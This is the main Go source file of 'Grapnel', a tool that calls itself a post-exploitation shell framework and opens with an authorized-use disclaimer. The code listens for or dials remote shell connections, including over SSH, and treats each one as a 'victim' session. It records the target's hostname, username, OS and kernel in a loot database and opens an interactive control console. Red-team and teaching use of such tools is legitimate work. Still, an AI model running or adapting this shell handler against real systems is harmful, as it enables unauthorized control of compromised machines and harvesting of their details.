// Grapnel - Post-Exploitation Shell Framework
// WARNING: This tool is for AUTHORIZED security testing and educational purposes ONLY.
// Unauthorized use of this software is illegal and may result in criminal prosecution.
// Use only on systems you own or have explicit written permission to test.

package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"time"

	"github.com/grapnel/grapnel/banner"
	"github.com/grapnel/grapnel/channel"
	"github.com/grapnel/grapnel/core"
	"github.com/grapnel/grapnel/database"
	"github.com/grapnel/grapnel/interactive"
	"github.com/grapnel/grapnel/victim"
)

var (
	version   = "1.0.0"
	buildTime = "unknown"
	gitCommit = "unknown"
)

func main() {
	var (
		mode        = flag.String("mode", "listen", "Operation mode: listen, connect, or ssh")
		config      = flag.String("config", "", "Configuration file path")
		addr        = flag.String("addr", "", "Address to listen on or connect to (host:port)")
		sshUser     = flag.String("user", "", "SSH username")
		sshPassword = flag.String("password", "", "SSH password")
		sshKey      = flag.String("key", "", "SSH private key file")
		noDB        = flag.Bool("no-db", false, "Disable target/loot persistence")
		debug       = flag.Bool("debug", false, "Enable debug logging")
		showVersion = flag.Bool("version", false, "Show version information")
	)

	flag.Parse()

	if *showVersion {
		fmt.Printf("Grapnel v%s\nBuild: %s\nCommit: %s\n", version, buildTime, gitCommit)
		os.Exit(0)
	}

	logger := core.NewLogger(*debug)
	defer logger.Close()

	cfg, err := core.LoadConfig(*config)
	if err != nil {
		logger.Warn("Using default configuration: %v", err)
		cfg = core.DefaultConfig()
	}
	if cfg.Logging.Debug {
		logger = core.NewLogger(true)
	}
	if cfg.Logging.File != "" {
		if err := logger.SetFile(cfg.Logging.File); err != nil {
			logger.Warn("Log file unavailable: %v", err)
		}
	}

	banner.Print()

	var store *database.Store
	if !*noDB {
		store, err = database.Open(cfg.Database.Path)
		if err != nil {
			logger.Warn("Persistence disabled: %v", err)
			store = nil
		} else {
			defer store.Close()
		}
	}

	broker := core.NewEventBroker()
	defer broker.Stop()

	ch, remoteAddr, transportName, err := establish(*mode, *addr, *sshUser, *sshPassword, *sshKey, cfg, logger, broker)
	if err != nil {
		log.Fatalf("Connection failed: %v", err)
	}

	session := victim.NewSession(ch, victim.Options{
		Logger:      logger,
		Broker:      broker,
		TempDir:     cfg.Remote.TempDir,
		ReadTimeout: cfg.Remote.ReadTimeout,
	})

	recordTarget(store, session, remoteAddr, transportName, logger)

	console := interactive.NewConsole(session, store, logger, broker)
	if err := console.Run(); err != nil {
		logger.Error("Console error: %v", err)
	}

	if store != nil {
		store.CloseSession(session.ID)
	}
}

// establish builds the channel for the selected mode and returns it with the
// remote address and transport name for the record.
func establish(mode, addr, sshUser, sshPassword, sshKey string, cfg *core.Config, logger *core.Logger, broker *core.EventBroker) (channel.Channel, string, string, error) {
	switch mode {
	case "listen", "":
		bind := addr
		if bind == "" {
			bind = cfg.Listener.BindAddr
		}
		listener, err := channel.Listen(bind)
		if err != nil {
			return nil, "", "", err
		}
		defer listener.Close()

		logger.Info("Listening on %s", listener.Addr())
		broker.Publish(core.Event{EventType: core.EventListenerStarted})

		ch, err := listener.Accept()
		broker.Publish(core.Event{EventType: core.EventListenerStopped})
		if err != nil {
			return nil, "", "", err
		}
		logger.Info("Connection from %s", ch.RemoteAddr())
		return ch, ch.RemoteAddr().String(), "tcp", nil

	case "connect":
		if addr == "" {
			return nil, "", "", fmt.Errorf("connect mode requires -addr")
		}
		logger.Info("Connecting to %s", addr)
		ch, err := channel.Dial(addr)
		if err != nil {
			return nil, "", "", err
		}
		return ch, addr, "tcp", nil

	case "ssh":
		if addr == "" {
			return nil, "", "", fmt.Errorf("ssh mode requires -addr")
		}
		user := sshUser
		if user == "" {
			user = cfg.SSH.User
		}
		keyFile := sshKey
		if keyFile == "" {
			keyFile = cfg.SSH.KeyFile
		}
		var keyPEM []byte
		if keyFile != "" {
			var err error
			keyPEM, err = os.ReadFile(keyFile)
			if err != nil {
				return nil, "", "", fmt.Errorf("failed to read key file: %w", err)
			}
		}
		logger.Info("Connecting to %s as %s over SSH", addr, user)
		ch, err := channel.DialSSH(channel.SSHConfig{
			Addr:     addr,
			User:     user,
			Password: sshPassword,
			KeyPEM:   keyPEM,
		})
		if err != nil {
			return nil, "", "", err
		}
		return ch, addr, "ssh", nil

	default:
		return nil, "", "", fmt.Errorf("unknown mode %q", mode)
	}
}

// recordTarget persists the target and the new session when the store is
// available.
func recordTarget(store *database.Store, session *victim.Session, addr, transport string, logger *core.Logger) {
	if store == nil {
		return
	}

	target := &database.Target{Addr: addr}
	if info, err := session.GatherInfo(); err == nil {
		target.Hostname = info.Hostname
		target.Username = info.Username
		target.OS = info.OS
		target.Kernel = info.Kernel
	}
	if err := store.SaveTarget(target); err != nil {
		logger.Warn("Failed to record target: %v", err)
		return
	}
	record := &database.SessionRecord{
		ID:        session.ID,
		TargetID:  target.ID,
		Transport: transport,
		OpenedAt:  time.Now().Unix(),
	}
	if err := store.SaveSession(record); err != nil {
		logger.Warn("Failed to record session: %v", err)
	}
}
